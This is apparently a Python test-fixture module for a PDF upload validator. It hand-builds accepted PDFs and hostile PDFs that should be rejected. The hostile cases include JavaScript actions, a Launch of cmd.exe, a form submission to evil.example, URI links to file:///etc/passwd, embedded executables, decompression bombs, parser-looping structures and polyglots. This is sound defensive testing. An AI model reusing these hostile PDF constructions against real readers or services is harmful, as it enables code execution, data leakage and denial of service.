"""PDF uploads: objects written by hand, so that hostile ones say exactly what they mean."""
# ruff: noqa: E501 - hostile bytes are read best in one line

import io
import random
import zlib
from collections.abc import Callable, Iterator
from typing import Any

import pikepdf

from uploads.case import Case, bad, ok, wrong
from uploads.jpegs import MAX_BYTES, eicar
from uploads.pictures import card, encoded, jpeg, zip_archive

CONTENT = b"q 1 0 0 rg 50 50 300 200 re f Q BT /F1 24 Tf 72 700 Td (Carte d'identite) Tj ET"
FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"


def stream(data: bytes, entries: bytes = b"") -> bytes:
    return b"<</Length %d %s>>\nstream\n%s\nendstream" % (len(data), entries, data)


def flate(data: bytes, entries: bytes = b"") -> bytes:
    return stream(zlib.compress(data, 9), b"/Filter/FlateDecode " + entries)


def written(objects: list[bytes], version: bytes = b"1.7", trailer: bytes = b"", root: int = 1) -> bytes:
    """Objects numbered from 1, the cross-reference table, the trailer."""
    out = bytearray(b"%%PDF-%s\n%%\xe2\xe3\xcf\xd3\n" % version)
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<</Size %d/Root %d 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        root,
        trailer,
        start,
    )
    return bytes(out)


def pages(
    count: int = 1, catalog: bytes = b"", page: bytes = b"", extra: tuple[bytes, ...] = (), **options: Any
) -> bytes:
    """A document of some pages: 1 catalog, 2 tree, 3 font, 4 content, 5... pages, then the extra objects."""
    kids = b" ".join(b"%d 0 R" % (5 + i) for i in range(count))
    objects = [
        b"<</Type/Catalog/Pages 2 0 R %s>>" % catalog,
        b"<</Type/Pages/Count %d/Kids[%s]>>" % (count, kids),
        FONT,
        flate(CONTENT),
        *[b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<</Font<</F1 3 0 R>>>>/Contents 4 0 R %s>>" % page] * count,
        *extra,
    ]  # fmt: skip
    return written(objects, **options)


def picture_page(entries: bytes, data: bytes) -> bytes:
    content = flate(b"q 500 0 0 700 40 60 cm /I Do Q")
    return written([
        b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<</XObject<</I 5 0 R>>>>/Contents 4 0 R>>",
        content, stream(data, b"/Type/XObject/Subtype/Image " + entries),
    ])  # fmt: skip


def saved(data: bytes, change: Callable[[pikepdf.Pdf], None] | None = None, **options: Any) -> bytes:
    target = io.BytesIO()
    with pikepdf.open(io.BytesIO(data)) as pdf:
        if change:
            change(pdf)
        pdf.save(target, **options)
    return target.getvalue()


def revised(data: bytes, body: bytes, number: int = 1) -> bytes:
    """An incremental update that replaces one object."""
    start = data.rindex(b"startxref") + 10
    previous = int(data[start : data.index(b"\n", start)])
    at = len(data)
    new = b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = at + len(new)
    return (
        data
        + new
        + b"xref\n%d 1\n%010d 00000 n \ntrailer\n<</Size 40/Root 1 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF\n"
        % (number, at, previous, table)
    )


def honest() -> Iterator[Case]:
    yield from _scans()
    yield from _features()
    yield from _sloppy()
    yield from _sealed()


def _scans() -> Iterator[Case]:
    plain = pages()
    yield ok("pdf plain", "scan.pdf", plain, "application/pdf")
    yield ok("pdf opaque", "scan.pdf", plain, "application/octet-stream")
    for version in (b"1.0", b"1.3", b"1.4", b"1.5", b"1.6", b"2.0"):
        yield ok(f"pdf version {version!r}", "a.pdf", pages(version=version))
    yield ok("pdf twenty pages", "a.pdf", pages(20))
    yield ok("pdf linearized", "a.pdf", saved(pages(3), linearize=True))
    yield ok(
        "pdf object streams", "a.pdf", saved(pages(3), object_stream_mode=pikepdf.ObjectStreamMode.generate)
    )
    yield ok("pdf qdf", "a.pdf", saved(pages(2), qdf=True))
    yield ok("pdf revised", "a.pdf", revised(plain, b"<</Type/Catalog/Pages 2 0 R/Lang(fr)>>"))
    yield ok(
        "pdf revised twice",
        "a.pdf",
        revised(revised(plain, b"<</Type/Catalog/Pages 2 0 R/Lang(fr)>>"), FONT, 3),
    )
    colour = b"/Width 640/Height 420/ColorSpace/DeviceRGB/BitsPerComponent 8"
    yield ok("pdf scan jpeg", "a.pdf", picture_page(colour + b"/Filter/DCTDecode", jpeg()))
    yield ok(
        "pdf scan flate",
        "a.pdf",
        picture_page(colour + b"/Filter/FlateDecode", zlib.compress(card().tobytes())),
    )
    yield ok(
        "pdf scan flate jpeg",
        "a.pdf",
        picture_page(colour + b"/Filter[/FlateDecode/DCTDecode]", zlib.compress(jpeg())),
    )
    hexed = jpeg().hex().encode() + b">"
    yield ok(
        "pdf scan hex jpeg", "a.pdf", picture_page(colour + b"/Filter[/ASCIIHexDecode/DCTDecode]", hexed)
    )
    a4 = b"/Width 4960/Height 7016/ColorSpace/DeviceGray/BitsPerComponent 1/Filter/FlateDecode"
    yield ok("pdf scan 600 dpi bilevel", "a.pdf", picture_page(a4, zlib.compress(b"\xf0" * (620 * 7016))))
    a4 = b"/Width 4960/Height 7016/ColorSpace/DeviceRGB/BitsPerComponent 8/Filter/FlateDecode"
    yield ok(
        "pdf scan 600 dpi colour", "a.pdf", picture_page(a4, zlib.compress(b"\xf0" * (4960 * 3 * 7016), 1))
    )
    yield ok("pdf by pillow", "a.pdf", encoded(card(), "PDF", resolution=150))
    yield ok(
        "pdf by pillow, pages",
        "a.pdf",
        encoded(card(), "PDF", save_all=True, append_images=[card(mode="L"), card(mode="1"), card(mode="P")]),
    )


def _features() -> Iterator[Case]:
    xmp = stream(
        b"<?xpacket begin=''?><x:xmpmeta xmlns:x='adobe:ns:meta/'>CANARY-XMP</x:xmpmeta>",
        b"/Type/Metadata/Subtype/XML",
    )
    yield ok(
        "pdf metadata",
        "a.pdf",
        pages(catalog=b"/Metadata 6 0 R", extra=(xmp,), trailer=b"/Info<</Author(CANARY)/Producer(x)>>"),
    )
    yield ok("pdf opens at a page", "a.pdf", pages(catalog=b"/OpenAction[5 0 R/Fit]"))
    yield ok("pdf opens by a goto", "a.pdf", pages(catalog=b"/OpenAction<</S/GoTo/D[5 0 R/XYZ 0 0 1]>>"))
    link = (
        b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://www.service-public.fr/)>>>>]"
    )
    yield ok("pdf web link", "a.pdf", pages(page=link))
    yield ok(
        "pdf mail link",
        "a.pdf",
        pages(page=link.replace(b"https://www.service-public.fr/", b"mailto:mairie@example.org")),
    )
    yield ok(
        "pdf inner link",
        "a.pdf",
        pages(page=b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/GoTo/D[5 0 R/Fit]>>>>]"),
    )
    field = b"<</FT/Tx/T(nom)/V(CANARY)/Subtype/Widget/Rect[50 50 200 80]/DA(/Helv 12 Tf)/F 4>>"
    yield ok(
        "pdf form without scripts",
        "a.pdf",
        pages(
            catalog=b"/AcroForm<</Fields[6 0 R]/DA(/Helv 0 Tf 0 g)>>", page=b"/Annots[6 0 R]", extra=(field,)
        ),
    )
    sig = b"<</FT/Sig/T(s)/Subtype/Widget/Rect[0 0 0 0]/F 132/V<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/adbe.pkcs7.detached/ByteRange[0 1 2 3]/Contents<30820000>>>>>"
    yield ok(
        "pdf signed",
        "a.pdf",
        pages(catalog=b"/AcroForm<</SigFlags 3/Fields[6 0 R]>>", page=b"/Annots[6 0 R]", extra=(sig,)),
    )
    outline = (
        b"<</Type/Outlines/First 7 0 R/Last 7 0 R/Count 1>>",
        b"<</Title(Recto)/Parent 6 0 R/Dest[5 0 R/Fit]>>",
    )
    yield ok("pdf outline", "a.pdf", pages(catalog=b"/Outlines 6 0 R", extra=outline))
    tags = (
        b"<</Type/StructTreeRoot/K 7 0 R>>",
        b"<</Type/StructElem/S/P/P 6 0 R/A<</O/Layout/Placement/Block>>>>",
    )
    yield ok(
        "pdf tagged", "a.pdf", pages(catalog=b"/StructTreeRoot 6 0 R/MarkInfo<</Marked true>>", extra=tags)
    )
    yield ok(
        "pdf empty name trees",
        "a.pdf",
        pages(catalog=b"/Names<</EmbeddedFiles<</Names[]>>/JavaScript<</Names[]>>>>"),
    )
    yield ok("pdf transparency", "a.pdf", pages(page=b"/Group<</S/Transparency/CS/DeviceRGB>>"))
    yield ok(
        "pdf output intent",
        "a.pdf",
        pages(catalog=b"/OutputIntents[<</Type/OutputIntent/S/GTS_PDFA1/OutputConditionIdentifier(sRGB)>>]"),
    )
    note = b'/Annots[<</Subtype/Highlight/Rect[0 0 9 9]/QuadPoints[0 9 9 9 0 0 9 0]/RC(<?xml version="1.0"?><body xmlns="http://www.w3.org/1999/xhtml"><p>a</p></body>)>>]'
    yield ok("pdf rich note", "a.pdf", pages(page=note))
    packer = zlib.compressobj()
    left_open = packer.compress(CONTENT) + packer.flush(zlib.Z_SYNC_FLUSH)
    yield ok("pdf stream left open", "a.pdf", _content(stream(left_open, b"/Filter/FlateDecode")))
    unused = pages(extra=(b"<<>>",))
    yield ok(
        "pdf unused object at offset 0",
        "a.pdf",
        unused.replace(b"%010d 00000 n" % unused.index(b"6 0 obj"), b"0000000000 00000 n"),
    )
    yield ok(
        "pdf layers",
        "a.pdf",
        pages(catalog=b"/OCProperties<</OCGs[6 0 R]/D<</Order[6 0 R]>>>>", extra=(b"<</Type/OCG/Name(a)>>",)),
    )


def _sealed() -> Iterator[Case]:
    plain = pages()
    for revision in (2, 3, 4, 6):
        lock = pikepdf.Encryption(owner="owner", user="", R=revision, aes=revision > 3, metadata=revision > 3)
        yield ok(f"pdf owner's password, revision {revision}", "a.pdf", saved(plain, encryption=lock))
    yield ok("pdf padded with zeros", "a.pdf", plain + bytes(3000))
    yield ok("pdf padded with newlines", "a.pdf", plain + b"\r\n" * 600)
    yield ok("pdf padded with one byte", "a.pdf", plain + b"A" * 9000)
    yield ok("pdf padded with comments", "a.pdf", plain + b"%" + b"x" * 5000 + b"\n%" + b"y" * 5000 + b"\n")
    yield wrong(
        "pdf with another behind a comment", "a.pdf", plain + b"%x\n%PDF-1.4\n1 0 obj\n<<>>\nendobj\n"
    )
    filler = pages(extra=(b"<<>>",))
    yield ok("pdf exactly the limit", "a.pdf", plain + bytes(MAX_BYTES - len(plain)))
    noise = random.Random(8).randbytes(MAX_BYTES - len(filler) - 200_000)
    yield ok("pdf near the limit, noise", "a.pdf", pages(extra=(stream(noise),)))
    yield ok("pdf landscape, turned", "a.pdf", pages(page=b"/Rotate 90"))
    yield ok("pdf deep page tree", "a.pdf", written([
        b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 1/Kids[3 0 R]/MediaBox[0 0 300 400]>>",
        b"<</Type/Pages/Count 1/Kids[4 0 R]/Parent 2 0 R>>", b"<</Type/Page/Parent 3 0 R>>",
    ]))  # fmt: skip


def _sloppy() -> Iterator[Case]:
    """Whole documents whose table of objects is wrong; every viewer makes it anew without a word."""
    plain = pages()
    table = plain.index(b"xref\n0")
    yield ok(
        "pdf short xref lines",
        "a.pdf",
        plain[:table] + plain[table:].replace(b" n \n", b" n\n").replace(b" f \n", b" f\n"),
    )
    yield ok(
        "pdf xref counted from 1",
        "a.pdf",
        plain[:table] + plain[table:].replace(b"xref\n0 6\n0000000000 65535 f \n", b"xref\n1 5\n"),
    )
    yield ok("pdf wrong startxref", "a.pdf", plain.replace(b"startxref\n", b"startxref\n9"))
    yield ok(
        "pdf startxref a little early",
        "a.pdf",
        plain.replace(b"startxref\n%d" % table, b"startxref\n%d" % (table - 3)),
    )
    yield ok("pdf offsets a little off", "a.pdf", plain.replace(b"1 0 obj", b"\n\n1 0 obj", 1))
    yield ok("pdf wrong length", "a.pdf", plain.replace(b"<</Length ", b"<</Length 1"))
    yield ok("pdf without table", "a.pdf", plain[:table] + b"trailer\n<</Root 1 0 R>>\n%%EOF\n")
    yield ok(
        "pdf windows line ends in its table", "a.pdf", plain[:table] + plain[table:].replace(b" \n", b"\r\n")
    )


def active() -> Iterator[Case]:
    script = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
    js = {
        "open action": {"catalog": b"/OpenAction" + script},
        "open action apart": {"catalog": b"/OpenAction 6 0 R", "extra": (script,)},
        "names": {"catalog": b"/Names<</JavaScript<</Names[(a)%s]>>>>" % script},
        "names of streams": {"catalog": b"/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS 6 0 R>>]>>>>", "extra": (flate(b"app.alert(1)"),)},
        "names below": {"catalog": b"/Names<</JavaScript<</Kids[6 0 R]>>>>", "extra": (b"<</Names[(a)7 0 R]/Limits[(a)(a)]>>", script)},
        "page aa": {"page": b"/AA<</O%s>>" % script}, "catalog aa": {"catalog": b"/AA<</WC%s>>" % script},
        "annotation": {"page": b"/Annots[<</Subtype/Link/Rect[0 0 9 9]/A%s>>]" % script},
        "annotation aa": {"page": b"/Annots[<</Subtype/Widget/FT/Btn/Rect[0 0 9 9]/AA<</U%s>>>>]" % script},
        "next": {"catalog": b"/OpenAction<</S/GoTo/D[5 0 R/Fit]/Next[<</S/GoTo/D[5 0 R/Fit]/Next%s>>]>>" % script},
        "field": {"catalog": b"/AcroForm<</Fields[<</FT/Tx/T(a)/AA<</K%s>>>>]>>" % script},
        "escaped names": {"catalog": b"/Open#41ction<</#53/J#61vaScript/J#53(app.alert)>>"},
        "hex string": {"catalog": b"/OpenAction<</S/JavaScript/JS<6170702e616c657274>>>"},
        "outline": {"catalog": b"/Outlines 6 0 R", "extra": (b"<</First 7 0 R/Last 7 0 R>>", b"<</Title(a)/Parent 6 0 R/A%s>>" % script)},
        "nested arrays": {"catalog": b"/X[[[[[[%s]]]]]]" % script}, "unreferenced": {"extra": (script,)},
        "without type": {"catalog": b"/OpenAction<</JS(app.alert)>>"},
        "rendition": {"catalog": b"/OpenAction<</S/Rendition/OP 0/JS(app.alert)>>"},
    }  # fmt: skip
    for what, options in js.items():
        yield bad(f"pdf javascript {what}", "a.pdf", pages(**options), "active_content")
    data = pages(catalog=b"/OpenAction" + script)
    yield bad(
        "pdf javascript in object stream",
        "a.pdf",
        saved(data, object_stream_mode=pikepdf.ObjectStreamMode.generate),
        "active_content",
    )
    yield bad("pdf javascript linearized", "a.pdf", saved(data, linearize=True), "active_content")
    yield bad(
        "pdf javascript encrypted",
        "a.pdf",
        saved(data, encryption=pikepdf.Encryption(owner="o", user="", R=6)),
        "active_content",
    )
    yield bad(
        "pdf javascript in a revision",
        "a.pdf",
        revised(pages(), b"<</Type/Catalog/Pages 2 0 R/OpenAction%s>>" % script),
        "active_content",
    )
    actions = {
        "launch": b"<</S/Launch/F(cmd.exe)>>", "launch win": b"<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>",
        "submit": b"<</S/SubmitForm/F(https://evil.example/)>>", "import": b"<</S/ImportData/F(a.fdf)>>",
        "gotor": b"<</S/GoToR/F(\\\\\\\\evil\\\\share)/D[0/Fit]>>", "gotoe": b"<</S/GoToE/T<</R/C/N(a)>>>>", "reset": b"<</S/ResetForm>>",
        "hide": b"<</S/Hide/T(a)>>", "movie": b"<</S/Movie/T(a)>>", "sound": b"<</S/Sound/Sound 4 0 R>>",
        "media": b"<</S/RichMediaExecute/TA 4 0 R>>", "3d": b"<</S/GoTo3DView>>", "unknown": b"<</S/Frobnicate>>",
        "uri script": b"<</S/URI/URI(javascript:alert\\(1\\))>>", "uri file": b"<</S/URI/URI(file:///etc/passwd)>>",
        "uri share": b"<</S/URI/URI(\\\\\\\\evil\\\\share)>>", "uri data": b"<</S/URI/URI(data:text/html,a)>>",
        "uri spaced": b"<</S/URI/URI( java\\nscript:alert)>>",
    }  # fmt: skip
    for what, action in actions.items():
        code = "active_content"
        yield bad(
            f"pdf link {what}",
            "a.pdf",
            pages(page=b"/Annots[<</Subtype/Link/Rect[0 0 9 9]/A%s>>]" % action),
            code,
        )
        yield bad(f"pdf opening {what}", "a.pdf", pages(catalog=b"/OpenAction" + action), code)
    yield bad(
        "pdf opening a web page",
        "a.pdf",
        pages(catalog=b"/OpenAction<</S/URI/URI(https://evil.example/)>>"),
        "active_content",
    )
    yield bad(
        "pdf page opens a web page",
        "a.pdf",
        pages(page=b"/AA<</O<</S/URI/URI(https://evil.example/)>>>>"),
        "active_content",
    )
    for kind in (b"RichMedia", b"Movie", b"Sound", b"Screen", b"3D"):
        yield bad(
            f"pdf annotation {kind!r}",
            "a.pdf",
            pages(page=b"/Annots[<</Subtype/%s/Rect[0 0 9 9]>>]" % kind),
            "active_content",
        )
    yield bad(
        "pdf xfa",
        "a.pdf",
        pages(catalog=b"/AcroForm<</XFA 6 0 R/Fields[]>>", extra=(flate(b"<xdp:xdp/>"),)),
        "active_content",
    )
    yield bad(
        "pdf xfa parts",
        "a.pdf",
        pages(catalog=b"/AcroForm<</XFA[(template)6 0 R]/Fields[]>>", extra=(flate(b"<a/>"),)),
        "active_content",
    )
    yield bad(
        "pdf postscript",
        "a.pdf",
        pages(extra=(stream(b"showpage", b"/Type/XObject/Subtype/PS"),)),
        "active_content",
    )
    yield bad(
        "pdf data outside",
        "a.pdf",
        pages(extra=(stream(b"", b"/F(http://evil.example/a)"),)),
        "active_content",
    )
    files = {
        "names": (b"/Names<</EmbeddedFiles<</Names[(a)6 0 R]>>>>", b""), "associated": (b"/AF[6 0 R]", b""),
        "annotation": (b"", b"/Annots[<</Subtype/FileAttachment/FS 6 0 R/Rect[0 0 9 9]>>]"), "unreferenced": (b"", b""),
        "portfolio": (b"/Collection<</View/D>>/Names<</EmbeddedFiles<</Kids[8 0 R]>>>>", b""),
    }  # fmt: skip
    parts = (
        b"<</Type/Filespec/F(a.exe)/EF<</F 7 0 R>>>>",
        flate(b"MZ" + bytes(90), b"/Type/EmbeddedFile"),
        b"<</Names[(a)6 0 R]>>",
    )
    for what, (catalog, page) in files.items():
        yield bad(
            f"pdf embedded {what}", "a.pdf", pages(catalog=catalog, page=page, extra=parts), "embedded_files"
        )

    def attach(pdf: pikepdf.Pdf) -> None:
        pdf.attachments["a.xml"] = b"<Invoice/>"

    yield bad("pdf embedded invoice", "a.pdf", saved(pages(), attach), "embedded_files")


def limits() -> Iterator[Case]:
    plain = pages()
    yield Case("pdf too large", "a.pdf", plain + bytes(MAX_BYTES), 413, "document_too_large")
    yield bad("pdf empty", "a.pdf", b"", "empty")
    for count in (21, 22, 100, 3000):
        yield bad(f"pdf {count} pages", "a.pdf", pages(count), "too_many_pages")
    yield bad("pdf 21 pages, 20 counted", "a.pdf", pages(21).replace(b"/Count 21", b"/Count 20"))
    yield bad("pdf 21 pages, 1 counted", "a.pdf", pages(21).replace(b"/Count 21", b"/Count  1"))
    yield bad("pdf one page, 1000 counted", "a.pdf", pages(11).replace(b"/Count 11", b"/Count 99"))
    yield bad("pdf no pages", "a.pdf", pages(0), "no_pages")
    for revision in (2, 3, 4, 6):
        lock = pikepdf.Encryption(
            owner="owner", user="user", R=revision, aes=revision > 3, metadata=revision > 3
        )
        yield bad(
            f"pdf user's password, revision {revision}", "a.pdf", saved(plain, encryption=lock), "encrypted"
        )
    zeros = bytes(1 << 20)
    packer = zlib.compressobj(9)
    bomb = b"".join(packer.compress(b" " * len(zeros)) for _ in range(1000)) + packer.flush()
    yield bad("bomb pdf content", "a.pdf", _content(stream(bomb, b"/Filter/FlateDecode")), "too_costly")
    twice = zlib.compress(bomb, 9)
    yield bad(
        "bomb pdf two layers",
        "a.pdf",
        _content(stream(twice, b"/Filter[/FlateDecode/FlateDecode]")),
        "too_costly",
    )
    thrice = zlib.compress(twice, 9)
    yield bad(
        "bomb pdf three layers",
        "a.pdf",
        _content(stream(thrice, b"/Filter[/FlateDecode/FlateDecode/FlateDecode]")),
        "too_costly",
    )
    yield bad(
        "bomb pdf many layers",
        "a.pdf",
        _content(stream(thrice, b"/Filter[" + b"/FlateDecode" * 50 + b"]")),
        "too_costly",
    )
    yield bad(
        "bomb pdf hex",
        "a.pdf",
        _content(stream(twice.hex().encode() + b">", b"/Filter[/ASCIIHexDecode/FlateDecode/FlateDecode]")),
    )
    yield bad(
        "bomb pdf run length",
        "a.pdf",
        _content(stream(bytes((129, 32)) * 3_000_000, b"/Filter/RunLengthDecode")),
    )
    packed = stream(bomb, b"/Filter/FlateDecode")
    yield bad("bomb pdf many streams", "a.pdf", pages(extra=(flate(zeros * 60),) * 20), "too_costly")
    huge = b"/Width 60000/Height 60000/ColorSpace/DeviceRGB/BitsPerComponent 8/Filter/FlateDecode"
    yield bad("bomb pdf image", "a.pdf", picture_page(huge, bomb))
    yield bad("bomb pdf object stream", "a.pdf", _object_stream(bomb))
    yield bad("pdf metadata bomb", "a.pdf", pages(catalog=b"/Metadata 6 0 R", extra=(packed,)), "too_costly")
    yield bad(
        "pdf page tree of itself",
        "a.pdf",
        written([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 1/Kids[2 0 R]>>"]),
    )
    yield bad("pdf page tree in a circle", "a.pdf", written([
        b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 1/Kids[3 0 R]>>", b"<</Type/Pages/Count 1/Kids[2 0 R]>>"]))  # fmt: skip
    yield bad("pdf deep arrays", "a.pdf", pages(catalog=b"/X" + b"[" * 100_000 + b"]" * 100_000))
    yield bad(
        "pdf deep dictionaries", "a.pdf", pages(catalog=b"/X" + b"<</A" * 50_000 + b" 1" + b">>" * 50_000)
    )
    yield bad("bomb pdf objects", "a.pdf", pages(extra=(b"<<>>",) * 150_000), "too_costly")
    yield bad("pdf gigantic page", "a.pdf", pages().replace(b"[0 0 595 842]", b"[0 0 900000000 900000000]"))
    loop = written([b"<</Type/Catalog/Pages 2 0 R>>"]).replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev 15")
    yield bad("pdf xref elsewhere", "a.pdf", loop, "corrupt")
    start = plain.rindex(b"startxref") + 10
    here = int(plain[start : plain.index(b"\n", start)])
    yield bad(
        "pdf xref loop", "a.pdf", plain.replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev %d" % here), "corrupt"
    )


def _content(body: bytes) -> bytes:
    return written([
        b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>", body,
    ])  # fmt: skip


def _object_stream(packed: bytes) -> bytes:
    """A cross-reference stream that places the catalog in an object stream that unfolds to a gigabyte."""
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    at = len(out)
    out += b"4 0 obj\n" + stream(packed, b"/Type/ObjStm/N 3/First 20/Filter/FlateDecode") + b"\nendobj\n"
    start = len(out)
    rows = [(0, 0, 0), (2, 4, 0), (2, 4, 1), (2, 4, 2), (1, at, 0), (1, start, 0)]
    table = b"".join(bytes((kind,)) + where.to_bytes(4) + bytes((index,)) for kind, where, index in rows)
    out += b"5 0 obj\n" + stream(table, b"/Type/XRef/Size 6/W[1 4 1]/Root 1 0 R") + b"\nendobj\n"
    return bytes(out) + b"startxref\n%d\n%%%%EOF\n" % start


# Zeros that hit the padding or the table only: every object is still there.
_HARMLESS = {("linearized", 1)}


def damaged() -> Iterator[Case]:
    for kind, data in (("plain", pages(3)), ("linearized", saved(pages(3), linearize=True)), ("object streams", saved(pages(3), object_stream_mode=pikepdf.ObjectStreamMode.generate)),
                       ("scan", picture_page(b"/Width 640/Height 420/ColorSpace/DeviceRGB/BitsPerComponent 8/Filter/DCTDecode", jpeg()))):  # fmt: skip
        for percent in (5, 10, 25, 50, 75, 90, 97):
            yield bad(
                f"pdf {kind} cut at {percent} %", "a.pdf", data[: len(data) * percent // 100], "corrupt"
            )
        yield bad(f"pdf {kind} without its last 10", "a.pdf", data[:-10], "corrupt")
    plain = pages()
    yield bad("pdf header alone", "a.pdf", b"%PDF-1.7\n", "corrupt")
    yield bad("pdf header and noise", "a.pdf", b"%PDF-1.7\n" + random.Random(6).randbytes(4000), "corrupt")
    yield bad("pdf header and end", "a.pdf", b"%PDF-1.7\n%%EOF", "corrupt")
    yield bad(
        "pdf header and text", "a.pdf", b"%PDF-1.4\nthis is not a document\nstartxref\n0\n%%EOF\n", "corrupt"
    )
    yield bad("pdf without root", "a.pdf", plain.replace(b"/Root", b"/Ruth"), "corrupt")
    yield bad("pdf root is a number", "a.pdf", plain.replace(b"/Root 1 0 R", b"/Root 4      "), "corrupt")
    for kind, data in (
        ("plain", pages(3)),
        ("linearized", saved(pages(3), linearize=True)),
        ("object streams", saved(pages(3), object_stream_mode=pikepdf.ObjectStreamMode.generate)),
    ):
        for tenth in range(1, 9):
            at = len(data) * tenth // 10
            if (kind, tenth) not in _HARMLESS:
                yield bad(
                    f"pdf {kind} zeros at {tenth}0 %", "a.pdf", data[:at] + bytes(150) + data[at + 150 :]
                )
            if (kind, tenth) != ("plain", 8):
                yield bad(f"pdf {kind} cut at {tenth}0 % and closed", "a.pdf", data[:at] + data[-60:])
    broken = zlib.compress(CONTENT * 40)
    broken = broken[:30] + b"\xff" * 20 + broken[50:]
    yield bad("pdf broken content", "a.pdf", _content(stream(broken, b"/Filter/FlateDecode")), "corrupt")
    yield bad("pdf second half zeros", "a.pdf", plain[: len(plain) // 2] + bytes(len(plain) // 2), "corrupt")


def polyglots() -> Iterator[Case]:
    plain = pages()
    for what, tail in {"zip": zip_archive(), "html": b"<html><script>alert(1)</script>", "php": b"<?php a(); ?>", "exe": b"MZ\x90\0" + bytes(99),
                       "jpeg": jpeg()}.items():  # fmt: skip
        if what != "jpeg":
            yield wrong(f"poly pdf + {what}", "a.pdf", plain + tail, "polyglot")
    heads = {
        "newline": b"\n",
        "bom": b"\xef\xbb\xbf",
        "zeros": b"\0\0\0\0",
        "text": b"hello\n",
        "html": b"<html>\n",
        "js": b"/*",
        "mail": b"From: a\n\n",
    }
    for what, head in heads.items():
        yield wrong(f"pdf behind {what}", "a.pdf", head + plain, "type_not_allowed")
    yield wrong("pdf behind a picture", "a.pdf", jpeg() + plain, "type_mismatch")
    yield wrong("pdf behind a gif", "a.pdf", b"GIF89a" + bytes(20) + plain, "type_not_allowed")
    yield wrong("pdf behind a zip", "a.pdf", zip_archive() + plain, "type_not_allowed")
    yield wrong(
        "poly pdf html comment",
        "a.pdf",
        pages().replace(b"%\xe2\xe3\xcf\xd3\n", b"%\xe2\xe3\xcf\xd3<html><script>alert(1)</script>\n"),
    )
    yield wrong("poly pdf zip inside", "a.pdf", pages(extra=(stream(zip_archive()),)), "polyglot")
    yield wrong(
        "pdf fdf",
        "a.pdf",
        b"%FDF-1.2\n1 0 obj<</FDF<<>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF",
        "type_not_allowed",
    )
    yield wrong("pdf postscript file", "a.pdf", b"%!PS-Adobe-3.0\nshowpage\n", "type_not_allowed")
    yield bad("pdf eicar", "a.pdf", pages(extra=(stream(eicar()),)), "malware")


def cases() -> Iterator[Case]:
    yield from honest()
    yield from active()
    yield from limits()
    yield from damaged()
    yield from polyglots()
